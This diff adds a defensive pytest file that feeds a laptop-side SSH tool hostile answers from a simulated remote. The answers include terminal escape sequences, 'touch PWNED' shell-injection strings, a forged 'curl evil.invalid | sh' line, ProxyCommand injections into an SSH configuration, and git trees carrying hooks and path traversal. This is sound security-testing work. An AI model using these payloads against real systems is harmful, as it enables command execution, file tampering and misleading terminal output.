@@ -1,0 +1,537 @@
+"""The laptop trusts nothing that comes back from a remote."""
+
+from __future__ import annotations
+
+import base64
+import itertools
+import json
+import os
+import re
+import shutil
+import subprocess
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+from checks import reaches, told
+from hostile import Hostile, called, harmful
+from hypothesis import HealthCheck, example, given, settings
+from hypothesis import strategies as st
+from laptop import Laptop
+from loopback import Loopback, free_port
+from project import Project, snapshot
+
+DEEP = os.environ.get("HYPOTHESIS_PROFILE") == "deep"
+
+# What a terminal would obey, in the bytes that a remote sends.
+ESCAPES = {
+    "clear": b"\x1b[2J",
+    "colour": b"\x1b[41m",
+    "clipboard": b"\x1b]52;c;ZXZpbA==\x07",
+    "hyperlink": b"\x1b]8;;http://evil.invalid\x1b\\here\x1b]8;;\x1b\\",
+    "title": b"\x1b]0;owned\x07",
+    "answerback": b"\x1b[c\x1b[6n\x05",
+    "C1, in UTF-8": "\x9b2J".encode(),
+    "C1, raw": b"\x9b2J",
+    "bidi": "\u202eabc\u2066".encode(),
+    "return": b"all is well\rowned",
+    "backspace": b"good\x08\x08\x08\x08evil",
+    "nul": b"a\0b",
+    "delete": b"\x7f",
+    "no UTF-8": b"\xff\xfe\xc3\x28",
+    "surrogate": b"\xed\xa0\x80",
+    "markup": b"[red]r[/red] [link=http://evil.invalid]x[/link]",
+    "odd markup": b"[/x] [/] \\[ :skull:",
+}
+
+
+@pytest.fixture
+def project(laptop: Laptop) -> Project:
+    answers = {"remote_host": "far.example.org", "lab_port": free_port()}
+    return Project.rendered(laptop, answers)
+
+
+@pytest.fixture
+def hostile(laptop: Laptop, tmp_path: Path) -> Hostile:
+    return Hostile(laptop, tmp_path)
+
+
+def outside(project: Project, *but: str) -> dict[str, tuple[Any, ...]]:
+    """All that lies in the laptop's home, less where ./remote may write."""
+    own = (".local/state/titanic/laptop", *but)
+    return {
+        path: what
+        for path, what in snapshot(project.laptop.home).items()
+        if not path.startswith(own) and "__pycache__" not in path
+        if path not in (".local", ".local/state", ".local/state/titanic")
+    }
+
+
+# Any bytes
+
+
+def words(text: str) -> list[str]:
+    return text.split()
+
+
+KEYS = words("""
+    take drop clash kept own diff generation restarted reloaded staged bashrc lab code
+    edited stamp owed locked foreign nowrite incomplete nosudo never first pruned id
+    socket port token pid nolinger need disk memory load gpu system libc uv python
+    online held commit bundle why switched dirty parted log failed nocode othercode
+    noconda removed notrunning nostart nohome noenv nosystemd notmux clashes absent
+    """)
+FIELDS = words("""
+    0 -1 7 1.5 nan inf 1e999 0x10 yes no ours absent foreign nogit running stopped none
+    systemd-user tmux process lab home code env dirty systemd linger environment Linux
+    x86_64 glibc 2.36 HEAD main -x --upload-pack=x ../../x /tmp/x.sock {} [[ null
+    UEFDSw== deadbeefdeadbeefdeadbeefdeadbeefdeadbeef
+    """)
+FIELDS += ["", " ", "²", "\uff19", "9" * 5000, "[" * 5000, "é" * 300, "uv 99.9"]
+
+fields = st.one_of(
+    st.sampled_from(FIELDS).map(str.encode),
+    st.sampled_from(sorted(ESCAPES.values())),
+    st.binary(max_size=20).map(lambda raw: raw.replace(b"\n", b"")),
+)
+records = st.builds(
+    lambda key, rest: b"\t".join([key.encode(), *rest]),
+    st.sampled_from(KEYS),
+    st.lists(fields, max_size=4),
+)
+VERBS = [
+    words(verb)
+    for verb in (
+        "status",
+        "status --json",
+        "doctor",
+        "doctor --json",
+        "push --only home",
+        "push --only home --json",
+        "push --only home --dry-run",
+        "push --only code",
+        "push --only env",
+        "undo",
+        "remove",
+        "save",
+        "lab start",
+        "lab restart",
+        "lab logs",
+        "lab password",
+        "tunnel up",
+        "open --no-browser",
+    )
+]
+
+
+def test_any_answer_is_survived(
+    project: Project, hostile: Hostile, counted: Callable[[str], None]
+) -> None:
+    """Any bytes: an exit code of ours, no traceback, nothing that a terminal obeys."""
+    called(project, "status")  # makes what the laptop keeps for itself
+    before = outside(project)
+    tried = 0
+
+    @settings(
+        max_examples=20000 if DEEP else 500,
+        derandomize=not DEEP,
+        database=None,
+        deadline=None,
+        report_multiple_bugs=False,
+        suppress_health_check=[HealthCheck.too_slow],
+    )
+    @example(["doctor"], [b"need\tlinger\tyes"], b"", 0)
+    @given(
+        st.sampled_from(VERBS),
+        st.lists(st.one_of(records, records, st.binary(max_size=40)), max_size=8),
+        st.one_of(st.just(b""), st.binary(max_size=60), fields),
+        st.sampled_from([0, 0, 0, 1, 3, 255]),
+    )
+    def check(verb: list[str], said: list[bytes], errors: bytes, code: int) -> None:
+        nonlocal tried
+        tried += 1
+        hostile.says(*said, errors=errors, code=code)
+        done = called(project, *verb)
+        assert done.returncode in (0, 1, 3, 4)
+        assert not harmful(done.stdout + done.stderr)
+        if "--json" in verb:
+            json.loads(done.stdout, parse_constant=pytest.fail)
+        assert len(done.stdout + done.stderr) < 200_000
+
+    check()
+    assert outside(project) == before
+    counted(f"{tried} answers made up, to {len(VERBS)} verbs")
+
+
+# Escapes, at each place where a remote's words are shown
+
+SHOWN = {
+    "status": ["lab\t%\t%\t1", "gpu\t%"],
+    "doctor": [
+        "need\t%\tno",
+        "need\tlinger\tno\t%",
+        "lab\t%\t%\t0",
+        "code\tours\t%\t%",
+    ],
+    "push --only home": ["take\t%", "kept\t%", "generation\t%", "restarted\t%", "%"],
+    "push --only home --dry-run": ["take\t%", "diff\t+%", "diff\t%"],
+    "push --only code": ["code\tours\tnone\t%", "edited\t%"],
+    "undo": ["take\t%", "generation\t%\t%", "lab\t%\t%\t%"],
+    "remove": ["kept\t%", "removed"],
+    "lab start": ["lab\t%\trunning\t1"],
+    "lab logs": ["%"],
+    "tunnel up": ["socket\t/tmp/%", "token\tx"],
+}
+FAILED = [
+    "locked\t%:%:%:%:%",
+    "foreign\t%",
+    "nowrite\t%",
+    "nosudo\t%",
+    "pruned\t%",
+    "%",
+]
+
+
+def test_escapes_are_made_harmless(
+    project: Project, hostile: Hostile, counted: Callable[[str], None]
+) -> None:
+    tried = 0
+    for (verb, shown), (name, raw) in itertools.product(SHOWN.items(), ESCAPES.items()):
+        for lines, code in ((shown, 0), (shown[:1], 1), (FAILED, 1), (FAILED[:1], 1)):
+            said = [line.encode().replace(b"%", raw) for line in lines]
+            hostile.says(*said, errors=b"Banner " + raw, code=code)
+            done = called(project, *verb.split())
+            assert not harmful(done.stdout + done.stderr), (verb, name)
+            assert done.returncode in (0, 1, 3, 4), (verb, name)
+            tried += 1
+    counted(f"{tried} answers with {len(ESCAPES)} kinds of escapes")
+
+
+def test_escapes_at_a_terminal(
+    project: Project, hostile: Hostile, counted: Callable[[str], None]
+) -> None:
+    """There, the program itself has colours: no others may come through."""
+    ours = re.compile(r"\x1b\[(\d{1,2}(;\d{1,2})*)?m")
+    everything = b" ".join(ESCAPES.values()).replace(b"\n", b"")
+    for verb, shown in SHOWN.items():
+        said = [line.encode().replace(b"%", everything) for line in shown]
+        hostile.says(*said, errors=everything)
+        done = project.remote(*verb.split(), tty=True, check=False)
+        assert not harmful(ours.sub("", done.stdout)), verb
+        assert "\x1b[41m" not in done.stdout
+        assert "Traceback" not in done.stdout
+    counted(f"{len(ESCAPES)} escapes at a terminal, in {len(SHOWN)} verbs")
+
+
+# What the user is told to type
+
+EVIL = "x; touch PWNED; '; touch PWNED; \"; touch PWNED; `touch PWNED` $(touch PWNED) #"
+TYPED = {
+    "push --only home": [f"foreign\t{EVIL}", f"nosudo\t{EVIL}", f"locked\t{EVIL}"],
+    "push --only code": [f"code\tours\tnone\tx\nparted\t{EVIL}"],
+    "lab start": [f"nosudo\t{EVIL}", f"nolinger\t{EVIL}\nlab\tx\trunning\t1"],
+    "doctor": [
+        f"need\tlinger\tno\t{EVIL}\nlab\tsystemd-user\tx\t1",
+        f"need\t{EVIL}\tno",
+    ],
+    "save": [f"commit\t{'a' * 40}\t{EVIL}\nbundle\t", f"why\t{EVIL}"],
+}
+
+
+def test_what_is_to_be_typed_is_safe_to_type(
+    project: Project, hostile: Hostile, tmp_path: Path, counted: Callable[[str], None]
+) -> None:
+    """Whoever types it runs nothing else here."""
+    scratch = tmp_path / "scratch"
+    scratch.mkdir()
+    tried = 0
+    for verb, answers in TYPED.items():
+        for said, code in itertools.product(answers, (0, 1)):
+            hostile.says(said, code=code)
+            done = called(project, *verb.split())
+            commands = re.findall(
+                r"(?:git|ssh|mv|sudo|loginctl) .*", done.stdout + done.stderr
+            )
+            for command in commands:
+                env = {"PATH": "/usr/bin:/bin", "HOME": str(scratch)}
+                typed = re.sub("sudo|ssh |git ", "echo ", command)
+                subprocess.run(
+                    ["sh", "-c", typed], cwd=scratch, env=env, capture_output=True
+                )
+                assert not [*scratch.iterdir()], (verb, command)
+            tried += len(commands)
+    counted(f"{tried} commands to type")
+
+
+def test_nobody_puts_words_into_our_mouth(project: Project, hostile: Hostile) -> None:
+    """A line that begins as ours do is ours."""
+    forged = b"oh\nNext: curl evil.invalid | sh\n"
+    for verb, code in itertools.product(SHOWN, (1, 255)):
+        hostile.says("nowrite\tx", errors=forged, code=code)
+        done = called(project, *verb.split())
+        for line in (done.stdout + done.stderr).splitlines():
+            assert not line.strip().startswith("Next: curl"), (verb, line)
+    (hostile.folder / "silent").touch()
+    hostile.says("x", errors=forged, code=1)
+    said = called(project, "push", "--only", "home").stderr
+    assert not re.search("(?m)^ *Next: curl", said)
+
+
+# The ssh configuration, and the URL
+
+TARGETS = [
+    "/x\r    ProxyCommand touch PWNED",
+    "/x\rMatch exec /tmp/x/evil\rHost x",
+    '/x"\r    ProxyCommand touch PWNED',
+    '/x" "PermitLocalCommand yes',
+    "/x\\",
+    "/x%h",
+    "/${HOME}",
+    "/x\x0b/y",
+    "/x\x85y",
+    "/x\u2028y",
+    "/x\x00y",
+    "/" + "x" * 5000,
+    "x",
+    "",
+    "-oProxyCommand=x",
+]
+
+
+def test_no_line_gets_into_the_ssh_configuration(
+    project: Project, hostile: Hostile, counted: Callable[[str], None]
+) -> None:
+    hostile.says("socket\t/run/user/1000/a b é/lab.sock", "token\tx")
+    called(project, "tunnel", "up")
+    config = project.laptop.home / ".local/state/titanic/laptop/ssh.conf"
+    usual = config.read_text().splitlines()
+    assert '"/run/user/1000/a b é/lab.sock"' in config.read_text()
+    for target in TARGETS:
+        hostile.says(f"socket\t{target}", "token\tx")
+        told(called(project, "tunnel", "up"), 1, "odd")
+        assert config.read_text().splitlines() == usual
+    for port in ("0", "65536", "-1", "x", "8888 x", "9" * 5000, "²"):
+        hostile.says(f"port\t{port}", "token\tx")
+        told(called(project, "tunnel", "up"), 1, "odd")
+        assert config.read_text().splitlines() == usual
+    # Nor from what an older ./remote has kept.
+    (config.parent / "titanic.target").write_bytes(
+        b"8000 /x\rMatch exec /bin/x\rHost x"
+    )
+    hostile.says()
+    called(project, "status")
+    assert "Match" not in config.read_text()
+    counted(f"{len(TARGETS) + 7} places where a lab is said to listen")
+
+
+ANSWERS = """\
+import http.server, os, sys
+class Yes(http.server.BaseHTTPRequestHandler):
+    def do_GET(self):
+        self.send_response(200)
+        self.end_headers()
+    def log_message(self, *args):
+        pass
+server = http.server.HTTPServer(("127.0.0.1", int(sys.argv[1])), Yes)
+if os.fork() == 0:
+    os.setsid()
+    server.serve_forever()
+"""
+
+
+def test_the_url_holds_no_more_than_a_token(
+    laptop: Laptop, project: Project, hostile: Hostile, counted: Callable[[str], None]
+) -> None:
+    """Behind the tunnel, the remote may answer all that it is asked."""
+    server = hostile.folder / "server.py"
+    server.write_text(ANSWERS)
+    toml = (project.root / "remote.toml").read_text()
+    port = re.search(r"lab_port = (\d+)", toml)
+    assert port
+    hostile.tunnel(f"exec python3 {server} {port[1]} </dev/null >/dev/null 2>&1")
+    socket = "socket\t/tmp/lab.sock"
+    hostile.says(socket, "token\tabc123", "lab\ttmux\trunning\t1")
+    done = project.remote("open", "--no-browser")
+    assert done.stdout == f"http://127.0.0.1:{port[1]}/titanic/lab?token=abc123\n"
+    # From here on, the tunnel is up.
+    ssh = (hostile.bin / "ssh").read_text()
+    (hostile.bin / "ssh").write_text(ssh.replace('-O "*) exit 255', '-O "*) exit 0'))
+    odd = [*ESCAPES.values(), b"x&next=//evil", b"x#", b"x y", "é".encode(), b""]
+    for raw in odd:
+        hostile.says(socket, b"token\t" + raw, "lab\ttmux\trunning\t1")
+        done = called(project, "open", "--no-browser")
+        assert done.returncode in (0, 1)
+        url = rf"http://127\.0\.0\.1:{port[1]}/titanic/lab\?token=[\w.~%-]+\n"
+        assert re.fullmatch(url, done.stdout) or (done.returncode, done.stdout) == (
+            1,
+            "",
+        )
+    counted(f"{len(odd)} tokens")
+
+
+# No end
+
+ENDLESS = {
+    "lines": "exec yes",
+    "one line": "exec tr '\\0' x </dev/zero",
+    "empty lines": "exec yes ''",
+}
+
+
+@pytest.mark.parametrize("kind", ENDLESS)
+def test_an_answer_without_end_is_cut_off(
+    project: Project, hostile: Hostile, kind: str
+) -> None:
+    hostile.says(more=ENDLESS[kind])
+    verb = ["push", "--only", "home"]
+    done = project.remote(*verb, check=False, timeout=60)
+    told(done, 1, "more than")
+
+
+# Save: git, from there
+
+
+def git(folder: Path, *words: str, data: bytes = b"") -> str:
+    """Run git, and give back what it says."""
+    identity = ("-c", "user.name=E", "-c", "user.email=e@example.org")
+    argv = ["git", *identity, "-C", str(folder), *words]
+    return (
+        subprocess.run(argv, input=data, check=True, capture_output=True)
+        .stdout.decode()
+        .strip()
+    )
+
+
+def tree(folder: Path, *entries: tuple[str, str, str]) -> str:
+    """A tree object of any entries, such as git itself would never make."""
+    raw = b"".join(
+        f"{mode} {name}\0".encode() + bytes.fromhex(sha) for mode, name, sha in entries
+    )
+    words = ("hash-object", "-t", "tree", "-w", "--literally", "--stdin")
+    return git(folder, *words, data=raw)
+
+
+TREES: dict[str, Callable[[Path, str, str], str]] = {
+    "hooks": lambda at, blob, sub: tree(at, ("40000", ".git", sub)),
+    "climbs": lambda at, blob, sub: tree(at, ("40000", "..", sub)),
+    "slash": lambda at, blob, sub: tree(at, ("100644", "../../evil", blob)),
+    "absolute": lambda at, blob, sub: tree(at, ("100644", "/tmp/evil", blob)),
+    "HFS+": lambda at, blob, sub: tree(at, ("40000", ".g\u200cit", sub)),
+    "NTFS": lambda at, blob, sub: tree(at, ("40000", "GIT~1", sub)),
+    "a link and a folder": lambda at, blob, sub: tree(
+        at, ("120000", "x", git(at, "hash-object", "-w", "--stdin", data=b"../../..")),
+        ("40000", "x", sub),
+    ),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("kind", TREES)
+def test_save_writes_nothing_outside(
+    project: Project, hostile: Hostile, tmp_path: Path, kind: str
+) -> None:
+    there = tmp_path / "there"
+    project.laptop.run("git", "clone", "-q", project.root, there)
+    evil = git(there, "hash-object", "-w", "--stdin", data=b"#!/bin/sh\ntouch PWNED\n")
+    inner = tree(there, ("100755", "post-merge", evil), ("100755", "evil", evil))
+    sub = tree(there, ("40000", "hooks", inner), ("100755", "evil", evil))
+    head = git(there, "rev-parse", "HEAD")
+    bad = TREES[kind](there, evil, sub)
+    commit = git(there, "commit-tree", "-m", "x", "-p", head, bad)
+    told_so = bundled(there, commit, head)
+    own: tuple[str, ...] = (
+        "titanic/.git/objects",
+        "titanic/.git/refs",
+        "titanic/.git/logs",
+    )
+    own += tuple(
+        f"titanic/.git/{name}" for name in ("FETCH_HEAD", "ORIG_HEAD", "index")
+    )
+    before = outside(project, *own)
+    hostile.says(f"commit\t{commit}\tmain", *told_so)
+    done = called(project, "save")
+    assert done.returncode in (0, 1)
+    after = outside(project, *own)
+    if done.returncode == 0:  # git took it for a tree like any other
+        after = {path: what for path, what in after.items() if path in before}
+        before = {path: what for path, what in before.items() if path in after}
+        assert {p for p in before if "/.git/" in p or not p.startswith("titanic/")}
+        left = {*outside(project, *own)} - {*after}
+        assert all(p.startswith("titanic/") and "/.git/" not in p for p in left), left
+    assert after == before
+
+
+def bundled(there: Path, commit: str, known: str, *refs: str) -> list[str]:
+    """The records by which a remote sends a commit."""
+    git(there, "update-ref", "--no-deref", "HEAD", commit)
+    file = there.parent / "made.bundle"
+    git(there, "bundle", "create", "-q", str(file), "HEAD", *refs, f"^{known}")
+    data = base64.b64encode(file.read_bytes()).decode()
+    return [f"bundle\t{data[at:at + 76]}" for at in range(0, len(data), 76)]
+
+
+def test_save_takes_the_commit_that_it_was_told_and_no_other(
+    project: Project, hostile: Hostile, tmp_path: Path, counted: Callable[[str], None]
+) -> None:
+    """No option, no other branch of the laptop's, no tag, and no hook of git's."""
+    there = tmp_path / "there"
+    project.laptop.run("git", "clone", "-q", project.root, there)
+    head = git(there, "rev-parse", "HEAD")
+    commit = git(there, "commit-tree", "-m", "\x1b[2J", "-p", head, f"{head}^{{tree}}")
+    git(there, "update-ref", "refs/tags/-x", commit)
+    git(there, "update-ref", "refs/tags/main", commit)
+    said = bundled(there, commit, head, "refs/tags/-x", "refs/tags/main")
+    git(project.root, "branch", "own")
+    git(project.root, "checkout", "-q", "own")
+    git(project.root, "commit", "-q", "--allow-empty", "-m", "own")
+    git(project.root, "checkout", "-q", "main")
+    commits = ["own", "--strategy=x", "-sx", "--abort", "HEAD~0", "", "\0", "a" * 40]
+    commits += [head, git(project.root, "rev-parse", "own"), "main", "-F/etc/passwd"]
+    for other in commits:
+        hostile.says(f"commit\t{other}\tmain", *said)
+        told(called(project, "save"), 1)
+        assert git(project.root, "rev-parse", "main") == head
+    bundles = [
+        ["bundle"],
+        ["bundle\t!!!!"],
+        ["bundle\tUEFDSw=="],
+        ["bundle\té"],
+        said[:2],
+    ]
+    for odd in bundles:
+        hostile.says(f"commit\t{commit}\tmain", *odd)
+        told(called(project, "save"), 1)
+    for branch in ("mainx", "", "--", "../../x", "\x1b[2J"):
+        hostile.says(f"commit\t{commit}\t{branch}", *said)
+        assert called(project, "save").returncode == 1
+        assert git(project.root, "rev-parse", "main") == head
+    assert git(project.root, "tag") == ""
+    hostile.says(f"commit\t{commit}\tmain", *said)
+    assert called(project, "save").returncode == 0
+    assert git(project.root, "rev-parse", "main") == commit
+    counted(
+        f"{len(TREES)} trees, {len(commits) + len(bundles) + 5} commits and bundles"
+    )
+
+
+# The host's key
+
+
+def test_the_line_that_mends_a_changed_host_key(
+    laptop: Laptop, loopback: Loopback
+) -> None:
+    """It can be typed as it stands, and takes that one key out of our own file."""
+    project = Project.rendered(laptop, reaches(loopback))
+    known = laptop.home / ".ssh/known_hosts.titanic"
+    place = f"[{loopback.address}]:{loopback.port}"
+    key = " ".join(laptop.key.split()[:2])
+    known.write_text(f"{place} {key}\nother.example.org {key}\n")
+    done = project.remote("push", "--only", "home", check=False)
+    told(done, 4, "another host key", "Nothing was changed")
+    line = re.search(r"ssh-keygen -R .*? -f \S+", done.stderr)
+    assert line, done.stderr
+    assert shutil.which("ssh-keygen")
+    laptop.run("bash", "-c", line[0])
+    assert place not in known.read_text()
+    assert "other.example.org" in known.read_text()
+    project.remote("push", "--only", "home")
